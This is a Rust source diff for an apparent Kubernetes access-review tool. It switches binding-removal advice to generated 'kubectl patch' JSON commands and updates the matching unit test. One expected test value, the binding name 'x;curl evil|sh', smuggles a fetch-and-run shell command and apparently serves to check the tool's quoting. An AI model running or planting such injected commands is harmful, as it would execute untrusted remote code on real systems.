@@ -16,6 +16,7 @@ use evenhand_model::id::IdentityId;
 use evenhand_model::opset::OpSet;
 use evenhand_model::proposal::{Kept, LeftOut, NoProposal, Proposal, ProposedFile, Proposes, file_name, quoted};
 use evenhand_model::scope::Pattern;
+use serde_json::{Value, json};
 
 use super::sets::general_group;
 use super::{Actor, Compiled, Known, Resolver};
@@ -76,7 +77,7 @@ impl Proposes for Resolver {
         if !text.is_empty() {
             steps.push(format!("kubectl apply -f {}", quoted(&file)));
         }
-        steps.extend(own_bindings(cluster, known).map(|(binding, _)| unbound(binding, &known.actor, &subject)));
+        steps.extend(own_bindings(cluster, known).map(|(binding, _)| unbound(binding, &known.actor)));
         let files = if text.is_empty() { Vec::new() } else { vec![ProposedFile { name: file, text }] };
         Ok(Proposal { files, steps, left_out })
     }
@@ -122,7 +123,7 @@ fn is_of(held: &rbac::Subject, actor: &Actor, binding: &Metadata) -> bool {
 }
 
 /// How a binding is taken away from a subject.
-fn unbound(binding: &Binding, actor: &Actor, subject: &Subject) -> String {
+fn unbound(binding: &Binding, actor: &Actor) -> String {
     let meta = &binding.metadata;
     let kind = if meta.namespace.is_empty() { "ClusterRoleBinding" } else { "RoleBinding" };
     let command = object(&kind.to_lowercase(), meta);
@@ -131,9 +132,15 @@ fn unbound(binding: &Binding, actor: &Actor, subject: &Subject) -> String {
     if entries == binding.subjects.len() {
         return format!("kubectl delete {command}");
     }
-    let what = if entries > 1 { format!("the {entries} entries of the subject") } else { "the subject".to_owned() };
-    let name = quoted(&meta.name);
-    format!("take {what} {} out of {kind} {name} (kubectl edit {command})", subject.words)
+    // From the last on, so that places stay what they are; each is looked at first, since the binding may have changed.
+    let mut patch = Vec::new();
+    for (at, held) in binding.subjects.iter().enumerate().rev().filter(|(_, held)| is_of(held, actor, meta)) {
+        let path = format!("/subjects/{at}");
+        patch.push(json!({"op": "test", "path": format!("{path}/kind"), "value": held.kind}));
+        patch.push(json!({"op": "test", "path": format!("{path}/name"), "value": held.name}));
+        patch.push(json!({"op": "remove", "path": path}));
+    }
+    format!("kubectl patch --type=json --patch {} {command}", quoted(&Value::from(patch).to_string()))
 }
 
 /// An object as an argument of a command. A name of RBAC may be anything but a path, and begin like an option.
@@ -277,7 +284,6 @@ struct Subject {
     name: Arc<str>,
     /// For the names of objects and of the file.
     short: String,
-    words: String,
 }
 
 impl Subject {
@@ -289,14 +295,8 @@ impl Subject {
             Actor::HolderOf(_) => return None,
         };
         let short = file_name(&name);
-        let (before, words) = match namespace.is_empty() {
-            true => (String::new(), format!("{kind} {}", quoted(&name))),
-            false => {
-                let before = file_name(&namespace);
-                (format!("{before}-"), format!("{kind} {}", quoted(&format!("{namespace}/{name}"))))
-            }
-        };
-        Some(Self { kind, short: format!("{before}{short}"), namespace, name, words })
+        let before = if namespace.is_empty() { String::new() } else { format!("{}-", file_name(&namespace)) };
+        Some(Self { kind, short: format!("{before}{short}"), namespace, name })
     }
 
     /// Writes a binding to a role of the same name.
@@ -347,8 +347,6 @@ fn scalar(text: &str) -> String {
 
 #[cfg(test)]
 mod tests {
-    use serde_json::json;
-
     use super::*;
     use crate::tests::{document, read_all};
 
@@ -390,6 +388,13 @@ mod tests {
         let id = IdentityId::from("kubernetes:c:serviceaccount:a/x");
         let mut steps = proposer.propose(&id, &[], "").unwrap().steps;
         steps.sort();
+        let patched = |name: &str| {
+            format!(
+                "kubectl patch --type=json --patch '[{{\"op\":\"test\",\"path\":\"/subjects/0/kind\",\"value\":\
+                 \"ServiceAccount\"}},{{\"op\":\"test\",\"path\":\"/subjects/0/name\",\"value\":\"x\"}},\
+                 {{\"op\":\"remove\",\"path\":\"/subjects/0\"}}]' clusterrolebinding {name}"
+            )
+        };
         assert_eq!(
             steps,
             [
@@ -397,11 +402,9 @@ mod tests {
                 "kubectl delete clusterrolebinding 'x;curl evil|sh'",
                 "kubectl delete clusterrolebinding twice",
                 "kubectl delete rolebinding -n a -- --all",
-                "take the subject ServiceAccount a/x out of ClusterRoleBinding elsewhere (kubectl edit \
-                 clusterrolebinding elsewhere)",
-                "take the subject ServiceAccount a/x out of ClusterRoleBinding shared (kubectl edit clusterrolebinding \
-                 shared)",
-                "take the subject ServiceAccount a/x out of ClusterRoleBinding sre (kubectl edit clusterrolebinding sre)",
+                &patched("elsewhere"),
+                &patched("shared"),
+                &patched("sre"),
             ]
         );
         let access = resolver.access(&id).unwrap();
